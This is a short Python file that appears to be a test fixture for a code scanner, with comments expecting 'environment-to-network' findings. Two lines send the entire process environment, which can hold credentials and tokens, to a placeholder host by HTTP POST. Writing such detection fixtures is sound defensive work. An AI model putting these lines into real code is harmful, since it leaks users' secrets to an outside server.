import json
import os
import requests

# expect: environment-to-network
requests.post("https://c.example.com", json=dict(os.environ))
data = json.dumps({"host": "a", "env": dict(os.environ.items())})
# expect: environment-to-network
requests.post("https://c.example.com", data=data)
